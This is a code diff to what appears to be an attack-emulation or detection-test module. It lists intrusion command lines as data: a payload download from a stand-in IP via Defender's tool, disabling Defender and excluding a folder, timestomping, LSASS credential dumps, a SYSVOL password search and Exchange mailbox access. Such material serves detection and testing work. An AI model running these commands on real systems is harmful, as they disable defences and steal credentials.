@@ -15,7 +15,8 @@ const NET1: &str = "C:\\Windows\\System32\\net1.exe";
 /// Where its tools lie.
 pub(super) const FOLDER: &str = "C:\\Windows\\debug\\WIA\\brother";
 
-const fn line(
+/// A line, with what it starts.
+pub(super) const fn line(
     technique: Technique,
     weight: Weight,
     command: &'static str,
@@ -75,7 +76,7 @@ pub(super) const LOOK_AROUND: [Line; 6] = [
 ];
 
 /// How tools are brought: by the scanner's own program, out of a cabinet, out of a project that is compiled.
-pub(super) const BRING: [Line; 4] = [
+pub(super) const BRING: [Line; 5] = [
     must(
         Technique::Download,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd C:\\Windows\\debug\\WIA && \"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -Download¦File -url http://203.0.113.158/b/brs.cab -path C:\\Windows\\debug\\WIA\\brs.cab && popd\"",
@@ -103,16 +104,26 @@ pub(super) const BRING: [Line; 4] = [
     ),
     must(
         Technique::DefenceOff,
-        "\"C:\\Windows\\System32\\cmd.exe\" /c \"\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDef¦initions -All\"",
-        &[(
-            "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
-            "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\"  -RemoveDef¦initions -All",
-        )],
+        "\"C:\\Windows\\System32\\cmd.exe\" /c \"\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDef¦initions -All & powershell -NoP Add-Mp¦Preference -Exclusion¦Path C:\\Windows\\debug\\WIA\\brother\"",
+        &[
+            (
+                "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
+                "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\"  -RemoveDef¦initions -All",
+            ),
+            (POWERSHELL, "powershell  -NoP Add-Mp¦Preference -Exclusion¦Path C:\\Windows\\debug\\WIA\\brother"),
+        ],
     ),
+    Line {
+        technique: Technique::TimeChange,
+        weight: Weight::Must,
+        shell: POWERSHELL,
+        command: "powershell.exe -NoP -c \"(gi C:\\Windows\\debug\\WIA\\brother\\BrLogApi.dll).Creation¦Time='05/09/2017 08:11:00'\"",
+        programs: &[],
+    },
 ];
 
 /// How credentials are taken.
-pub(super) const TAKE: [Line; 4] = [
+pub(super) const TAKE: [Line; 5] = [
     must(
         Technique::CredentialDump,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\AvDump.exe --pid 648 --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file C:\\Windows\\debug\\WIA\\brother\\st0.tmp\"",
@@ -142,7 +153,23 @@ pub(super) const TAKE: [Line; 4] = [
             "findstr  /s /i cpass¦word \\\\elb-dc01\\SYSVOL\\elbwerft.example.net\\Policies\\*.xml",
         )],
     ),
+    Line {
+        technique: Technique::CredentialDump,
+        weight: Weight::Must,
+        shell: POWERSHELL,
+        command: "powershell.exe -NoP -c \"ipmo C:\\Windows\\debug\\WIA\\brother\\om.psm1; gps lsa¦ss | Out-Mini¦dump -DumpFilePath C:\\Windows\\debug\\WIA\\brother\"",
+        programs: &[],
+    },
 ];
+
+/// How the shell for management is opened; what it is told follows in [`AFTERMATH`].
+pub(super) const MANAGE: Line = Line {
+    technique: Technique::MailboxAccess,
+    weight: Weight::Must,
+    shell: POWERSHELL,
+    command: "powershell.exe -NoP -c \"Add-PSSnap¦in Microsoft.Exchange.Management.PowerShell.SnapIn; . C:\\Windows\\debug\\WIA\\brother\\m.ps1\"",
+    programs: &[],
+};
 
 /// The script that the copy of the disk is made by.
 pub(super) const SHADOW: (&str, &str) = (
